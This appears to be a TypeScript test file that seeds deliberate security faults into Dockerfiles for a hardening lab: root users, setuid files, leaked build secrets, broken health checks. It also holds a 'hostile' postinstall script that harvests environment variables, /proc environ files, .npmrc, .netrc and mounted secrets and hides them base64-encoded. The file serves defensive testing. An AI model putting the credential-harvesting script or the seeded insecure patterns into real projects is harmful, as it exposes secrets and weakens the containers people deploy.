/** A repository with its Dockerfile, to be made worse in one way. */
export interface Patchable {
  readonly dockerfile: string;
  /** Files to write, by path; `null` removes. */
  readonly files: Readonly<Record<string, string | null>>;
  /** Value that is passed as secret `seeded` and as build argument `REGISTRY_LOGIN`. */
  readonly secret: 'mounted' | 'passed' | null;
}

/** A fault, and the one promise that it breaks. */
export interface SeededFault {
  readonly name: string;
  readonly promise: string;
  readonly stack: 'node' | 'go';
  readonly patch: (dockerfile: string) => string;
  readonly files?: Readonly<Record<string, string | null>>;
  readonly secret?: 'mounted' | 'passed';
}

const MOUNT = '--mount=type=secret,id=seeded,env=SEEDED';

/** The last USER: the ones above it are those of build work. */
const SHIPPED_USER = /^USER [1-9].*$/m;
const SHIPPED_USER_LINE = /^USER [1-9].*\n/m;

/** Inserts lines before the shipped stage's USER line. */
function beforeUser(...lines: readonly string[]): (text: string) => string {
  return (text) => replaceOnce(text, SHIPPED_USER, (user) => [...lines, user].join('\n'));
}

/** Inserts lines before the first line of a kind. */
function before(pattern: RegExp, ...lines: readonly string[]): (text: string) => string {
  return (text) => replaceOnce(text, pattern, (found) => [...lines, found].join('\n'));
}

function swap(pattern: RegExp, by: string): (text: string) => string {
  return (text) => replaceOnce(text, pattern, () => by);
}

/** A patch that finds nothing would seed nothing: that is a fault of the lab. */
function replaceOnce(text: string, pattern: RegExp, by: (found: string) => string): string {
  if (!pattern.test(text)) throw new Error(`the seeded fault finds no ${String(pattern)} in the Dockerfile`);
  return text.replace(pattern, by);
}

/** Build checks would refuse these two before anything is built; the fault is to be seen in the image. */
function unchecked(rule: string, patch: (text: string) => string): (text: string) => string {
  return (text) => patch(text.replace('# check=error=true', `# check=skip=${rule};error=true`));
}

/** The base's own npm stays, or nothing would start. */
const KEEP_NPM = swap(/^RUN rm -rf [\s\S]*?&& \\\n\s+find/m, 'RUN find');

const HEALTH = /^HEALTHCHECK .*$/m;

/** Faults on a Node server with a shell in its base. */
const NODE: readonly Omit<SeededFault, 'stack'>[] = [
  { name: 'no USER', promise: 'H1', patch: swap(SHIPPED_USER_LINE, '') },
  { name: 'USER by name', promise: 'H1', patch: swap(SHIPPED_USER, 'USER node') },
  {
    name: 'app tree owned by the user',
    promise: 'H2',
    patch: beforeUser('RUN --network=none chown -R 1000:1000 /app/src && chmod -R u=rwX,go=rX /app/src'),
  },
  { name: 'group-writable app files', promise: 'H2', patch: beforeUser('RUN --network=none chmod -R g+w /app/src') },
  {
    name: 'working directory closed to other users',
    promise: 'H3',
    patch: beforeUser('RUN --network=none chown 1000:1000 /app && chmod 500 /app'),
  },
  { name: 'development dependencies shipped', promise: 'H4', patch: swap(/npm prune --omit=dev[^\n]*/, 'true') },
  {
    name: 'compiler shipped',
    promise: 'H4',
    patch: beforeUser('RUN --network=none cp /bin/true /usr/local/bin/gcc && chmod 755 /usr/local/bin/gcc'),
  },
  {
    name: 'secret copied into a layer',
    promise: 'H8',
    secret: 'mounted',
    patch: beforeUser(
      `RUN --network=none ${MOUNT} : "\${SEEDED:?}" && echo "$SEEDED" > /opt/login && chmod 644 /opt/login`,
    ),
  },
  {
    name: 'secret left in a cache mount',
    promise: 'H8',
    secret: 'mounted',
    patch: beforeUser(
      `RUN --network=none --mount=type=cache,id=seeded-cache,target=/seeded ${MOUNT} : "\${SEEDED:?}" && echo "$SEEDED" > /seeded/login`,
    ),
  },
  {
    name: 'secret left base64-encoded in a dependency',
    promise: 'H8',
    secret: 'mounted',
    patch: before(
      /^# production.*$/m,
      `RUN --network=none ${MOUNT} : "\${SEEDED:?}" && echo "$SEEDED" | base64 -w0 > node_modules/express/build.log`,
    ),
  },
  {
    name: 'install with scripts on beside a mounted secret',
    promise: 'H8',
    secret: 'mounted',
    files: { 'hostile/package.json': HOSTILE_MANIFEST(), 'hostile/hunt.js': HOSTILE_SCRIPT() },
    patch: hostile,
  },
  { name: 'missing .dockerignore', promise: 'H9', files: { '.dockerignore': null }, patch: (text) => text },
  {
    name: 'shell-form CMD',
    promise: 'H10',
    patch: unchecked('JSONArgsRecommended', (text) =>
      swap(/^CMD .*$/m, 'CMD node src/server.js')(swap(/^ENTRYPOINT .*$/m, 'ENTRYPOINT []')(text)),
    ),
  },
  {
    name: 'npm start as PID 1',
    promise: 'H10',
    patch: (text) =>
      KEEP_NPM(swap(/^CMD .*$/m, 'CMD ["npm", "start"]')(swap(/^ENTRYPOINT .*$/m, 'ENTRYPOINT []')(text))),
  },
  {
    name: 'health check on a wrong path',
    promise: 'H11',
    patch: (text) => replaceOnce(text, HEALTH, (line) => line.replace('/healthz', '/not-there')),
  },
  {
    name: 'probe that always succeeds',
    promise: 'H11',
    patch: swap(HEALTH, 'HEALTHCHECK CMD ["/usr/local/bin/node", "-e", "process.exit(0)"]'),
  },
  {
    name: 'setuid file left',
    promise: 'H12',
    patch: beforeUser('RUN --network=none cp /bin/true /usr/local/bin/lift && chmod 4755 /usr/local/bin/lift'),
  },
  {
    name: 'ARG REVISION above the install',
    promise: 'H17',
    patch: before(/^RUN --mount=type=cache[^\n]*\\\n\s+npm ci/m, 'ARG REVISION'),
  },
  {
    name: 'COPY . . before the install',
    promise: 'H17',
    patch: before(/^RUN --mount=type=cache[^\n]*\\\n\s+npm ci/m, 'COPY . .'),
  },
  {
    name: 'secret in a build argument',
    promise: 'H20',
    secret: 'passed',
    patch: beforeUser('ARG REGISTRY_LOGIN', 'RUN --network=none test -n "$REGISTRY_LOGIN"'),
  },
];

/** Faults on a compiled program. */
const GO: readonly Omit<SeededFault, 'stack'>[] = [
  { name: 'USER by name', promise: 'H1', patch: swap(SHIPPED_USER, 'USER nonroot') },
  {
    name: 'program owned by the user',
    promise: 'H2',
    patch: swap(/--chown=0:0 --chmod=a=rx/, '--chown=65532:65532 --chmod=u=rwx,go=rx'),
  },
  { name: 'setuid program', promise: 'H12', patch: swap(/--chmod=a=rx/, '--chmod=4555') },
  { name: 'missing .dockerignore', promise: 'H9', files: { '.dockerignore': null }, patch: (text) => text },
  { name: 'a file capability', promise: 'H12', patch: capability },
  { name: 'ARG TARGETARCH=amd64', promise: 'H15', patch: swap(/^ARG TARGETARCH$/m, 'ARG TARGETARCH=amd64') },
  {
    name: 'secret copied into a layer',
    promise: 'H8',
    secret: 'mounted',
    patch: (text) =>
      replaceOnce(
        swap(/(COPY --from=build .*\/app)$/m, '$1')(text),
        /^COPY --from=build .*$/m,
        (line) => `${line}\nCOPY --from=build /out/login /login`,
      ).replace(
        /^# runtime/m,
        `RUN --network=none ${MOUNT} : "\${SEEDED:?}" && echo "$SEEDED" > /out/login\n\n# runtime`,
      ),
  },
];

/** Every seeded fault, in order. */
export const SEEDED_FAULTS: readonly SeededFault[] = [
  ...NODE.map((fault) => ({ ...fault, stack: 'node' as const })),
  ...GO.map((fault) => ({ ...fault, stack: 'go' as const })),
];

/** The program with `cap_net_bind_service`, set where a tool for it is. */
function capability(text: string): string {
  const stage =
    'RUN apt-get update -qq && apt-get install -y -qq --no-install-recommends libcap2-bin && setcap cap_net_bind_service=+ep /out/app\n\n# runtime';
  return replaceOnce(
    replaceOnce(text, /^# runtime/m, () => stage),
    /--chown=0:0 --chmod=a=rx /,
    () => '',
  );
}

/** A dependency whose install script looks for the secret and hides what it finds. */
function HOSTILE_MANIFEST(): string {
  return JSON.stringify({ name: 'hostile', version: '1.0.0', scripts: { postinstall: 'node hunt.js' } });
}

function HOSTILE_SCRIPT(): string {
  return `const fs = require('node:fs');
const loot = [JSON.stringify(process.env)];
for (const pid of fs.readdirSync('/proc')) try { loot.push(fs.readFileSync('/proc/' + pid + '/environ', 'latin1')); } catch {}
for (const name of ['/root/.npmrc', '/root/.netrc']) try { loot.push(fs.readFileSync(name, 'latin1')); } catch {}
try { for (const name of fs.readdirSync('/run/secrets')) loot.push(fs.readFileSync('/run/secrets/' + name, 'latin1')); } catch {}
fs.writeFileSync('/app/node_modules/.hidden', Buffer.from(loot.join(';')).toString('base64'));
`;
}

/** The hostile package is installed beside the secret, its script allowed. */
function hostile(text: string): string {
  const install = `COPY hostile /hostile\nRUN --network=none ${MOUNT} : "\${SEEDED:?}" && cd /hostile && npm run postinstall`;
  return before(/^# production.*$/m, install)(text);
}
